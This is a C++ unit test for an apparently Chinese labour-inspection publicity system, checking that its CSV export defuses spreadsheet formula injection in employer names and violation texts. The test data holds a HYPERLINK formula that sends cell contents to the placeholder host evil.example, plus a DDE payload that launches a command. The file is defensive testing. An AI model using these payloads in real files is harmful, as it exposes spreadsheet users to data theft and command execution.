// CSV formula injection (issue 17, item 6): the public results.csv is opened in spreadsheets,
// so no cell the product writes may start a formula. Employers' names and violation texts are
// typed by bureaus (and imported from files); here they start with = + - @, and the export
// must neutralise each (OWASP: a leading single quote, the cell quoted) while the JSON export
// keeps the data as published.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "ledger/core/inspection/public_record.h"
#include "ledger/replay.h"
#include "tests/support/inspection_fixture.h"

namespace suiji {
namespace {

using inspection::CsvCell;
using inspection::Handling;
using inspection::PublicRecord;

TEST(CsvCell, NeutralisesEveryFormulaStartAndQuotes) {
  EXPECT_EQ(CsvCell("=HYPERLINK(\"http://x.example/\",\"点\")"),
            "\"'=HYPERLINK(\"\"http://x.example/\"\",\"\"点\"\")\"");
  EXPECT_EQ(CsvCell("+1"), "\"'+1\"");
  EXPECT_EQ(CsvCell("-1"), "\"'-1\"");
  EXPECT_EQ(CsvCell("@SUM(A1:A9)"), "\"'@SUM(A1:A9)\"");
  EXPECT_EQ(CsvCell("\t=1"), "\"'\t=1\"");
  EXPECT_EQ(CsvCell("\r=1"), "\"'\r=1\"");
  EXPECT_EQ(CsvCell("=1,=2"), "\"'=1,=2\"");  // the comma cannot open a second, bare cell
  // Everything else as before: bare unless it needs RFC 4180 quoting.
  EXPECT_EQ(CsvCell("常州示例有限公司"), "常州示例有限公司");
  EXPECT_EQ(CsvCell("a=1"), "a=1");
  EXPECT_EQ(CsvCell("2026-06-03"), "2026-06-03");
  EXPECT_EQ(CsvCell(""), "");
  EXPECT_EQ(CsvCell("a,b"), "\"a,b\"");
  EXPECT_EQ(CsvCell("say \"hi\""), "\"say \"\"hi\"\"\"");
}

class PublicCsvTest : public testing_support::InspectionNodeTest {};

TEST_F(PublicCsvTest, ResultsCsvNeutralisesFormulasInNamesAndViolationTexts) {
  const std::string draw_id = Drawn();
  ASSERT_FALSE(draw_id.empty());
  const auto& visits = inspections_->world().draws.Draw(draw_id)->visits;
  ASSERT_GE(visits.size(), 4u);
  const std::string hyperlink = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"查看详情\")";
  // The first visit's employer is renamed before its result is published (the name as
  // published goes into the export).
  {
    auto t = projection_->GetTarget(visits[0].credit_code);
    ASSERT_TRUE(t.ok() && t->has_value());
    directory::TargetRecord renamed = **t;
    renamed.name = hyperlink;
    auto s = dirsvc_->UpsertTarget(renamed, actor_);
    ASSERT_TRUE(s.ok()) << s.status().ToString();
  }
  SetDate("2026-06-03");
  const std::vector<std::string> texts = {"+1 名劳动者未签订书面劳动合同", "-1", "@SUM(1+1)*cmd|' /C calc'!A0",
                                          "=1+1"};
  for (size_t i = 0; i < texts.size(); ++i) {
    inspection::ResultRecord r = ViolationResult(draw_id, visits[i], "2026-06-03", {Handling::OrderCorrection});
    r.items[0].violations[0].description = texts[i];
    RecordAndPublish(r);
  }

  PublicRecord rec;
  uint64_t size = 0;
  ASSERT_TRUE(ReplayLog(ledger_->storage(), 0, [&](const EntryView& e) { return rec.Apply(e); }, &size).ok());
  const std::string csv = rec.CreditPublicityCsv();

  // Split into cells (RFC 4180), so each cell's first character can be checked.
  std::vector<std::vector<std::string>> rows(1);
  std::string cell;
  bool in_quotes = false;
  for (size_t i = 3; i < csv.size(); ++i) {  // after the byte order mark
    const char ch = csv[i];
    if (in_quotes) {
      if (ch == '"' && i + 1 < csv.size() && csv[i + 1] == '"') {
        cell += '"';
        ++i;
      } else if (ch == '"') {
        in_quotes = false;
      } else {
        cell += ch;
      }
    } else if (ch == '"' && cell.empty()) {
      in_quotes = true;
    } else if (ch == ',' || ch == '\r') {
      rows.back().push_back(cell);
      cell.clear();
      if (ch == '\r') {
        ASSERT_EQ(csv.at(i + 1), '\n');
        ++i;
        rows.emplace_back();
      }
    } else {
      cell += ch;
    }
  }
  rows.pop_back();  // after the last CRLF
  ASSERT_EQ(rows.size(), 1 + texts.size()) << csv;
  for (const auto& row : rows) {
    ASSERT_EQ(row.size(), std::size(inspection::kCreditPublicityColumns)) << csv;
    for (const std::string& c : row) {
      ASSERT_FALSE(!c.empty() && std::string("=+-@\t\r").find(c[0]) != std::string::npos)
          << "a cell starts a formula: " << c;
    }
  }
  // The data is kept, behind the quote: the name and each violation text.
  EXPECT_EQ(rows[1][1], "'" + hyperlink);
  for (size_t i = 0; i < texts.size(); ++i) {
    EXPECT_EQ(rows[1 + i][6].rfind("'" + texts[i] + "（", 0), 0u) << rows[1 + i][6];
  }
  EXPECT_NE(csv.find("\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A2,\"\"查看详情\"\")\""), std::string::npos)
      << csv;
  // JSON is data for programs: unchanged.
  const auto j = rec.CreditPublicityJson();
  EXPECT_EQ(j["rows"][0]["企业名称"], hyperlink);
  EXPECT_EQ(j["rows"][1]["处理情况"].get<std::string>().rfind("-1（", 0), 0u);
}

}  // namespace
}  // namespace suiji
